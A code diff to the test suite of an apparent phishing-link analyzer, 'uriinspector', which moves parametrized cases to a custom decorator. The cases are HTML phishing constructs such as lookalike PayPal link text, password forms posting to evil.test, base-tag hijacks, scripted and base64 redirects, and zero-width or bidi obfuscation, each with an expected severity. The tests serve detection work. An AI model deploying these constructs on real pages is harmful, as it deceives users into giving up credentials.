@@ -9,6 +9,7 @@ from hypothesis import strategies as st
 import uriinspector
 from tests.documents.mails import simple
 from tests.examples import at_most
+from tests.for_each import for_each
 from uriinspector.analysis.finding import joined
 from uriinspector.documents.cases.link_row import row_of
 from uriinspector.documents.leaf import Leaf
@@ -31,41 +32,39 @@ def said(page: str, base: str | None = None) -> dict[str, tuple[str, str]]:
     }
 
 
-@pytest.mark.parametrize(
-    ("href", "text", "severity"),
-    [
-        ("http://evil.test/", "www.paypal.com", "high"),
-        ("http://evil.test/", "http://paypal.com/login", "high"),
-        ("http://evil.test/", "hxxps://paypal.com/", "high"),
-        ("http://evil.test/", "Sign in at paypal.com now", "high"),
-        ("http://evil.test/", "example.com", "high"),
-        ("http://10.0.0.1/", "www.example.com", "high"),
-        ("http://evil.test/", "<b>www.</b>paypal<i>.com</i>", "high"),
-        ("https://www.google.com/url?q=http://evil.test/", "www.google.com", "high"),
-        ("http://example.de/", "www.example.com", "low"),
-        ("https://bit.ly/x", "www.example.com", "medium"),
-        ("https://www.example.com/", "http://www.example.com/", None),
-        ("https://click.mail.example.com/x", "www.example.com", None),
-        ("https://www.google.com/url?q=http://example.com/", "www.example.com", None),
-        ("http://evil.test/", "Click here. Now", None),
-        ("http://evil.test/", "setup.py", None),
-        ("http://evil.test/", "README.md", None),
-        ("http://evil.test/", "Version 1.2.3", None),
-        ("http://evil.test/", "see setup.cfg and example.com", None),
-        ("https://learn.microsoft.com/aspnet", "ASP.NET", "low"),
-        ("https://learn.microsoft.com/aspnet", "ASP.NET/x", "high"),
-        ("https://en.wikipedia.org/wiki/Amazon", "e.g. this", None),
-        ("mailto:a@evil.test", "help@example.com", "high"),
-        ("mailto:a@example.com", "help@example.com", None),
-        ("/login", "www.paypal.com", "high"),
-        ("javascript:void(0)", "www.paypal.com", None),
-        ("https://news.test/", "How PayPal.com was built in a garage", "medium"),
-        ("https://example.com/", "example.com, once www.oldname.org", "medium"),
-        ("https://example.com/", "Ph.D. theses, 3.5 million, $1.299.00, 10.12.2024", None),
-        ("https://x.com/a", "twitter.com/a", None),
-        ("https://youtu.be/a", "youtube.com/a", None),
-        ("https://outlook.office365.com/", "outlook.com", None),
-    ],
+@for_each(
+    "href, text, severity",
+    ("http://evil.test/", "www.paypal.com", "high"),
+    ("http://evil.test/", "http://paypal.com/login", "high"),
+    ("http://evil.test/", "hxxps://paypal.com/", "high"),
+    ("http://evil.test/", "Sign in at paypal.com now", "high"),
+    ("http://evil.test/", "example.com", "high"),
+    ("http://10.0.0.1/", "www.example.com", "high"),
+    ("http://evil.test/", "<b>www.</b>paypal<i>.com</i>", "high"),
+    ("https://www.google.com/url?q=http://evil.test/", "www.google.com", "high"),
+    ("http://example.de/", "www.example.com", "low"),
+    ("https://bit.ly/x", "www.example.com", "medium"),
+    ("https://www.example.com/", "http://www.example.com/", None),
+    ("https://click.mail.example.com/x", "www.example.com", None),
+    ("https://www.google.com/url?q=http://example.com/", "www.example.com", None),
+    ("http://evil.test/", "Click here. Now", None),
+    ("http://evil.test/", "setup.py", None),
+    ("http://evil.test/", "README.md", None),
+    ("http://evil.test/", "Version 1.2.3", None),
+    ("http://evil.test/", "see setup.cfg and example.com", None),
+    ("https://learn.microsoft.com/aspnet", "ASP.NET", "low"),
+    ("https://learn.microsoft.com/aspnet", "ASP.NET/x", "high"),
+    ("https://en.wikipedia.org/wiki/Amazon", "e.g. this", None),
+    ("mailto:a@evil.test", "help@example.com", "high"),
+    ("mailto:a@example.com", "help@example.com", None),
+    ("/login", "www.paypal.com", "high"),
+    ("javascript:void(0)", "www.paypal.com", None),
+    ("https://news.test/", "How PayPal.com was built in a garage", "medium"),
+    ("https://example.com/", "example.com, once www.oldname.org", "medium"),
+    ("https://example.com/", "Ph.D. theses, 3.5 million, $1.299.00, 10.12.2024", None),
+    ("https://x.com/a", "twitter.com/a", None),
+    ("https://youtu.be/a", "youtube.com/a", None),
+    ("https://outlook.office365.com/", "outlook.com", None),
 )
 def test_a_text_that_names_another_site(href: str, text: str, severity: str | None) -> None:
     found = said(f'<a href="{href}">{text}</a>', PAGE)
@@ -77,26 +76,24 @@ def test_behind_a_safe_link_the_last_host_counts() -> None:
     assert "text-href-mismatch" not in said(f"<a href='{href}'>www.example.com</a>")
 
 
-@pytest.mark.parametrize(
+@for_each(
     "href",
-    [
-        "https://eur01.safelinks.protection.outlook.com/?url={}&amp;data=05%7C02%7Cme%40acme.test",
-        "https://nam12.safelinks.protection.outlook.com/ap/w-59584e83/?url={}&amp;data=1",
-        "https://urldefense.proofpoint.com/v1/url?u={}&amp;k=abc",
-        "https://urldefense.proofpoint.com/v2/url?u=https-3A__www.acme.com_a&amp;d=DwMFaQ",
-        "https://urldefense.com/v3/__https://www.acme.com/a__;!!abc!xyz$",
-        "https://linkprotect.cudasvc.com/url?a={}&amp;c=E,1,x",
-        "https://protect-us.mimecast.com/s/abc?domain=acme.com",
-        "https://secure-web.cisco.com/1abc/{}",
-        "https://us-west-2.protection.sophos.com/?d=acme.com&amp;u=aHR0cHM6Ly93d3cuYWNtZS5jb20vYQ==",
-        "https://protect.checkpoint.com/v2/___https://www.acme.com/a___.YXA",
-        "https://u123.ct.sendgrid.net/ls/click?upn=abc",
-        "https://acme.us5.list-manage.com/track/click?u=1",
-        "https://click.news.acme.com/?qs=abc",
-        "https://acme.sharepoint.com/sites/a",
-        "https://acme.zendesk.com/hc",
-        "https://acme.de/",
-    ],
+    "https://eur01.safelinks.protection.outlook.com/?url={}&amp;data=05%7C02%7Cme%40acme.test",
+    "https://nam12.safelinks.protection.outlook.com/ap/w-59584e83/?url={}&amp;data=1",
+    "https://urldefense.proofpoint.com/v1/url?u={}&amp;k=abc",
+    "https://urldefense.proofpoint.com/v2/url?u=https-3A__www.acme.com_a&amp;d=DwMFaQ",
+    "https://urldefense.com/v3/__https://www.acme.com/a__;!!abc!xyz$",
+    "https://linkprotect.cudasvc.com/url?a={}&amp;c=E,1,x",
+    "https://protect-us.mimecast.com/s/abc?domain=acme.com",
+    "https://secure-web.cisco.com/1abc/{}",
+    "https://us-west-2.protection.sophos.com/?d=acme.com&amp;u=aHR0cHM6Ly93d3cuYWNtZS5jb20vYQ==",
+    "https://protect.checkpoint.com/v2/___https://www.acme.com/a___.YXA",
+    "https://u123.ct.sendgrid.net/ls/click?upn=abc",
+    "https://acme.us5.list-manage.com/track/click?u=1",
+    "https://click.news.acme.com/?qs=abc",
+    "https://acme.sharepoint.com/sites/a",
+    "https://acme.zendesk.com/hc",
+    "https://acme.de/",
 )
 def test_a_company_behind_services_of_its_own_gets_no_alarm(href: str) -> None:
     link = href.format("https%3A%2F%2Fwww.acme.com%2Fa")
@@ -107,7 +104,7 @@ def test_a_company_behind_services_of_its_own_gets_no_alarm(href: str) -> None:
     assert found.verdict.severity in {None, "info", "low"}, found.findings
 
 
-@pytest.mark.parametrize("host", ["acme.co", "acme.web.app", "acme.evil.test", "acme-login.com"])
+@for_each("host", "acme.co", "acme.web.app", "acme.evil.test", "acme-login.com")
 def test_who_imitates_the_company_is_told(host: str) -> None:
     octets = simple(
         "Delivered-To: me@acme.com\nContent-Type: text/html", f"<a href='https://{host}/'>"
@@ -153,16 +150,14 @@ def test_what_a_base_does_is_said_once_of_the_page_and_links_keep_their_own_judg
     ]
 
 
-@pytest.mark.parametrize(
-    ("href", "base"),
-    [
-        ("http://evil.test/", None),
-        ("/other/", PAGE),
-        ("https://www.page.test/", PAGE),
-        ("data:x", PAGE),
-        ("https://e vil.test/", PAGE),
-        ("mailto:a@evil.test", PAGE),
-    ],
+@for_each(
+    "href, base",
+    ("http://evil.test/", None),
+    ("/other/", PAGE),
+    ("https://www.page.test/", PAGE),
+    ("data:x", PAGE),
+    ("https://e vil.test/", PAGE),
+    ("mailto:a@evil.test", PAGE),
 )
 def test_of_the_page_nothing_is_said_of_a_base_that_moves_nothing(
     href: str, base: str | None
@@ -180,114 +175,112 @@ def test_the_verdict_names_what_is_shown() -> None:
     assert link.verdict.severity == "high"
 
 
-@pytest.mark.parametrize(
-    ("page", "base", "code", "severity"),
-    [
-        ("<base href='http://evil.test/'><a href='/x'>", PAGE, "base-hijack", "info"),
-        ("<a href='/x'><base href='http://evil.test/'>", PAGE, "base-hijack", "high"),
-        ("<base href='http://evil.test/'><a href='www.bank.com/x'>", None, "base-hijack", "high"),
-        ("<base href='http://evil.test/'><a href='x.html'>", None, "base-hijack", "low"),
-        ("<base href='/other/'><a href='x'>", PAGE, "base-hijack", None),
-        ("<base href='https://www.page.test/'><a href='x'>", PAGE, "base-hijack", None),
-        (
-            "<form action='http://evil.test/'><input type=password></form>",
-            PAGE,
-            "form-action",
-            "high",
-        ),
-        ("<form action='http://evil.test/'><input name=q></form>", PAGE, "form-action", "low"),
-        (
-            "<form action='http://evil.test/'></form><input type=password>",
-            PAGE,
-            "form-action",
-            "low",
-        ),
-        (
-            "<form id=f action='http://evil.test/'></form><input type=password form=f>",
-            PAGE,
-            "form-action",
-            "high",
-        ),
-        (
-            "<form action='http://evil.test/'><!--<input type=password>--></form>",
-            PAGE,
-            "form-action",
-            "low",
-        ),
-        (
-            "<form action='http://evil.test/'><script>'<input type=password>'</script></form>",
-            PAGE,
-            "form-action",
-            "low",
-        ),
-        ("<form action='/x'><input type='PassWord'></form>", PAGE, "form-action", None),
-        ("<form action='http://a.test/'><input type=password>", None, "form-action", "medium"),
-        ("<form><button formaction='http://evil.test/'>", PAGE, "form-action", "high"),
-        ("<form action='mailto:a@b.test'>", PAGE, "form-action", "medium"),
-        (
-            "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
-            PAGE,
-            "auto-redirect",
-            "high",
-        ),
-        (
-            "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
-            None,
-            "auto-redirect",
-            "high",
-        ),
-        ("<meta http-equiv=refresh content='0;url=next'>", PAGE, "auto-redirect", "info"),
-        ("<svg><a xlink:href='http://a.test/'></svg>", PAGE, "svg-link", "low"),
-        (
-            "<a href='https://bank.com/' onclick='location=\"http://evil.test/\"'>",
-            PAGE,
-            "event-handler",
-            "high",
-        ),
-        (
-            "<a href='https://bank.com/' onclick='open(\"https://bank.com/x\")'>",
-            PAGE,
-            "event-handler",
-            "low",
-        ),
-        ("<p onclick='open(\"http://a.test/\")'>", PAGE, "event-handler", "info"),
-        ("<p onclick='fetch(\"http://a.test/\")'>", PAGE, "event-handler", "info"),
-        ("<a href='&#104;&#116;&#116;p://a.test/'>", PAGE, "html-obfuscation", "medium"),
-        ("<a href='http://a.test/?a=1&amp;b&#38;c'>", PAGE, "html-obfuscation", None),
-        ("<a href='http://evil.test/'>www.pay&#8203;pal.com</a>", PAGE, "html-obfuscation", "high"),
-        (
-            "<a href='http://evil.test/'>pay<i style='display:none'>x</i>pal.com</a>",
-            PAGE,
-            "html-obfuscation",
-            "high",
-        ),
-        ("<a href='http://a.test/' style='display: none'>x</a>", PAGE, "hidden-link", "low"),
-        ("<a href='http://a.test/'><i style='font-size:0'>x</i></a>", PAGE, "hidden-link", "low"),
-        ("<a href='http://a.test/' style='font-size:09px'>x</a>", PAGE, "hidden-link", None),
-        *((f"<a href='http://a.test/' style='{style}'>x</a>", PAGE, "hidden-link", "low")
-          for style in ("display:/**/none", "dis\\70lay:none", "position:absolute;left:-9999px",
-                        "clip:rect(0,0,0,0)", "text-indent:-9999px", "opacity:0.0")),
-        *((f"<a href='http://a.test/'{rest}</a>", PAGE, "hidden-link", None)
-          for rest in (">&nbsp;<img src=x>", ">&nbsp;", "><img><i hidden>x</i>", ">",
-                       " style='font-size:0'><img src=x>", " style='opacity:.5'>x")),
-        ("<form action=//evil.test><input type=&#112;assword>", PAGE, "form-action", "high"),
-        *((f"<a href='https://bank.com/' onclick='{code}'>", PAGE, "event-handler", "low")
-          for code in ("tell(\"https://stats.test/\")", "ga({page_location: \"http://a.test/\"})")),
-        ("<a href='https://bank.com/' onclick='var u=\"http://evil.test/\"; location = u'>", PAGE,
-         "event-handler", "high"),
-        ("<form action='/x' onsubmit='this.action=\"http://evil.test/\"'>", PAGE,
-         "event-handler", "high"),
-        ("<body onload='location=\"http://evil.test/\"'>", PAGE, "event-handler", "high"),
-        ("<body onload='location=\"/x\"'>", PAGE, "event-handler", "info"),
-        ("<script>location.href = 'http://evil.test/'</script>", PAGE, "auto-redirect", "medium"),
-        ("<script>location.href = 'http://evil.test/'</script>" + "<a href=/x>x</a>" * 9, PAGE,
-         "auto-redirect", "low"),
-        ("<script>y('http://a.test/')</script>", PAGE, "auto-redirect", None),
-        ("<a href=//evil.test>\u202emoc.lapyap.www\u202c</a>", PAGE, "html-obfuscation", "high"),
-        ("<a href='http://evil.test/'>paypal\u3002com</a>", PAGE, "html-obfuscation", "high"),
-        ("<a href='http://evil.test/'>www.pay\xadpal.com</a>", PAGE, "html-obfuscation", "high"),
-        ("<a href='http://evil.test/'>www.pay\xadpal.com</a>", PAGE, "text-href-mismatch", None),
-    ],
+@for_each(
+    "page, base, code, severity",
+    ("<base href='http://evil.test/'><a href='/x'>", PAGE, "base-hijack", "info"),
+    ("<a href='/x'><base href='http://evil.test/'>", PAGE, "base-hijack", "high"),
+    ("<base href='http://evil.test/'><a href='www.bank.com/x'>", None, "base-hijack", "high"),
+    ("<base href='http://evil.test/'><a href='x.html'>", None, "base-hijack", "low"),
+    ("<base href='/other/'><a href='x'>", PAGE, "base-hijack", None),
+    ("<base href='https://www.page.test/'><a href='x'>", PAGE, "base-hijack", None),
+    (
+    "<form action='http://evil.test/'><input type=password></form>",
+    PAGE,
+    "form-action",
+    "high",
+    ),
+    ("<form action='http://evil.test/'><input name=q></form>", PAGE, "form-action", "low"),
+    (
+    "<form action='http://evil.test/'></form><input type=password>",
+    PAGE,
+    "form-action",
+    "low",
+    ),
+    (
+    "<form id=f action='http://evil.test/'></form><input type=password form=f>",
+    PAGE,
+    "form-action",
+    "high",
+    ),
+    (
+    "<form action='http://evil.test/'><!--<input type=password>--></form>",
+    PAGE,
+    "form-action",
+    "low",
+    ),
+    (
+    "<form action='http://evil.test/'><script>'<input type=password>'</script></form>",
+    PAGE,
+    "form-action",
+    "low",
+    ),
+    ("<form action='/x'><input type='PassWord'></form>", PAGE, "form-action", None),
+    ("<form action='http://a.test/'><input type=password>", None, "form-action", "medium"),
+    ("<form><button formaction='http://evil.test/'>", PAGE, "form-action", "high"),
+    ("<form action='mailto:a@b.test'>", PAGE, "form-action", "medium"),
+    (
+    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
+    PAGE,
+    "auto-redirect",
+    "high",
+    ),
+    (
+    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
+    None,
+    "auto-redirect",
+    "high",
+    ),
+    ("<meta http-equiv=refresh content='0;url=next'>", PAGE, "auto-redirect", "info"),
+    ("<svg><a xlink:href='http://a.test/'></svg>", PAGE, "svg-link", "low"),
+    (
+    "<a href='https://bank.com/' onclick='location=\"http://evil.test/\"'>",
+    PAGE,
+    "event-handler",
+    "high",
+    ),
+    (
+    "<a href='https://bank.com/' onclick='open(\"https://bank.com/x\")'>",
+    PAGE,
+    "event-handler",
+    "low",
+    ),
+    ("<p onclick='open(\"http://a.test/\")'>", PAGE, "event-handler", "info"),
+    ("<p onclick='fetch(\"http://a.test/\")'>", PAGE, "event-handler", "info"),
+    ("<a href='&#104;&#116;&#116;p://a.test/'>", PAGE, "html-obfuscation", "medium"),
+    ("<a href='http://a.test/?a=1&amp;b&#38;c'>", PAGE, "html-obfuscation", None),
+    ("<a href='http://evil.test/'>www.pay&#8203;pal.com</a>", PAGE, "html-obfuscation", "high"),
+    (
+    "<a href='http://evil.test/'>pay<i style='display:none'>x</i>pal.com</a>",
+    PAGE,
+    "html-obfuscation",
+    "high",
+    ),
+    ("<a href='http://a.test/' style='display: none'>x</a>", PAGE, "hidden-link", "low"),
+    ("<a href='http://a.test/'><i style='font-size:0'>x</i></a>", PAGE, "hidden-link", "low"),
+    ("<a href='http://a.test/' style='font-size:09px'>x</a>", PAGE, "hidden-link", None),
+    *((f"<a href='http://a.test/' style='{style}'>x</a>", PAGE, "hidden-link", "low")
+    for style in ("display:/**/none", "dis\\70lay:none", "position:absolute;left:-9999px",
+    "clip:rect(0,0,0,0)", "text-indent:-9999px", "opacity:0.0")),
+    *((f"<a href='http://a.test/'{rest}</a>", PAGE, "hidden-link", None)
+    for rest in (">&nbsp;<img src=x>", ">&nbsp;", "><img><i hidden>x</i>", ">",
+    " style='font-size:0'><img src=x>", " style='opacity:.5'>x")),
+    ("<form action=//evil.test><input type=&#112;assword>", PAGE, "form-action", "high"),
+    *((f"<a href='https://bank.com/' onclick='{code}'>", PAGE, "event-handler", "low")
+    for code in ("tell(\"https://stats.test/\")", "ga({page_location: \"http://a.test/\"})")),
+    ("<a href='https://bank.com/' onclick='var u=\"http://evil.test/\"; location = u'>", PAGE,
+    "event-handler", "high"),
+    ("<form action='/x' onsubmit='this.action=\"http://evil.test/\"'>", PAGE,
+    "event-handler", "high"),
+    ("<body onload='location=\"http://evil.test/\"'>", PAGE, "event-handler", "high"),
+    ("<body onload='location=\"/x\"'>", PAGE, "event-handler", "info"),
+    ("<script>location.href = 'http://evil.test/'</script>", PAGE, "auto-redirect", "medium"),
+    ("<script>location.href = 'http://evil.test/'</script>" + "<a href=/x>x</a>" * 9, PAGE,
+    "auto-redirect", "low"),
+    ("<script>y('http://a.test/')</script>", PAGE, "auto-redirect", None),
+    ("<a href=//evil.test>\u202emoc.lapyap.www\u202c</a>", PAGE, "html-obfuscation", "high"),
+    ("<a href='http://evil.test/'>paypal\u3002com</a>", PAGE, "html-obfuscation", "high"),
+    ("<a href='http://evil.test/'>www.pay\xadpal.com</a>", PAGE, "html-obfuscation", "high"),
+    ("<a href='http://evil.test/'>www.pay\xadpal.com</a>", PAGE, "text-href-mismatch", None),
 )  # fmt: skip
 def test_what_a_page_does_to_its_links(
     page: str, base: str | None, code: str, severity: str | None
@@ -295,20 +288,18 @@ def test_what_a_page_does_to_its_links(
     assert said(page, base).get(code, (None,))[0] == severity
 
 
-@pytest.mark.parametrize(
-    ("page", "base", "text", "origin"),
-    [
-        ("<a href=x>", None, None, "default"),
-        ("<a href=x>", PAGE, PAGE, "retrieval"),
-        ("<a href=x><base href=' http://b.test/ '>", PAGE, "http://b.test/", "embedded"),
-        ("<base target=x><base href='http://b.test/'><base href='http://c.test/'><a href=x>", PAGE,
-         "http://b.test/", "embedded"),
-        ("<base href='../b/'><a href=x>", PAGE, "https://page.test/b/", "embedded"),
-        ("<base href='../b/'><a href=x>", None, None, "embedded"),
-        ("<base href='data:text/plain,x'><a href=x>", PAGE, PAGE, "retrieval"),
-        ("<base href='http://a b/'><a href=x>", PAGE, PAGE, "retrieval"),
-        ("<template><base href='http://b.test/'></template><a href=x>", PAGE, PAGE, "retrieval"),
-    ],
+@for_each(
+    "page, base, text, origin",
+    ("<a href=x>", None, None, "default"),
+    ("<a href=x>", PAGE, PAGE, "retrieval"),
+    ("<a href=x><base href=' http://b.test/ '>", PAGE, "http://b.test/", "embedded"),
+    ("<base target=x><base href='http://b.test/'><base href='http://c.test/'><a href=x>", PAGE,
+    "http://b.test/", "embedded"),
+    ("<base href='../b/'><a href=x>", PAGE, "https://page.test/b/", "embedded"),
+    ("<base href='../b/'><a href=x>", None, None, "embedded"),
+    ("<base href='data:text/plain,x'><a href=x>", PAGE, PAGE, "retrieval"),
+    ("<base href='http://a b/'><a href=x>", PAGE, PAGE, "retrieval"),
+    ("<template><base href='http://b.test/'></template><a href=x>", PAGE, PAGE, "retrieval"),
 )  # fmt: skip
 def test_each_link_says_which_base_and_why(
     page: str, base: str | None, text: str | None, origin: str
@@ -367,32 +358,30 @@ def test_a_picture_that_is_written_in_lines_is_no_alarm() -> None:
     assert link.verdict.severity in {None, "info", "low"}
 
 
-@pytest.mark.parametrize(
-    ("page", "severity", "sentence"),
-    [
-        (
-            "<script>location='https://evil.example'</script>",
-            *("medium", "A script goes to evil.example if it reaches this line."),
-        ),
-        (
-            "<script>location=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUv')</script>",
-            *("high", "A script decodes this address from base64 and goes to evil.example."),
-        ),
-        (
-            "<script>var u='https://evil.example/';location=u</script>",
-            "medium",
-            "A script contains this address and moves the window to what a variable holds.",
-        ),
-        (
-            "<meta http-equiv=refresh content='0;url=https://evil.example'>",
-            *("high", "The page goes to evil.example without a click."),
-        ),
-        (
-            "<meta http-equiv=refresh content='0;url=/x'>",
-            "info",
-            "In a browser, this redirects without a click, but not to another site.",
-        ),
-    ],
+@for_each(
+    "page, severity, sentence",
+    (
+        "<script>location='https://evil.example'</script>",
+        *("medium", "A script goes to evil.example if it reaches this line."),
+    ),
+    (
+        "<script>location=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUv')</script>",
+        *("high", "A script decodes this address from base64 and goes to evil.example."),
+    ),
+    (
+        "<script>var u='https://evil.example/';location=u</script>",
+        "medium",
+        "A script contains this address and moves the window to what a variable holds.",
+    ),
+    (
+        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+        *("high", "The page goes to evil.example without a click."),
+    ),
+    (
+        "<meta http-equiv=refresh content='0;url=/x'>",
+        "info",
+        "In a browser, this redirects without a click, but not to another site.",
+    ),
 )
 def test_how_a_page_goes_on_is_said(page: str, severity: str, sentence: str) -> None:
     assert said(page, PAGE)["auto-redirect"] == (severity, sentence)
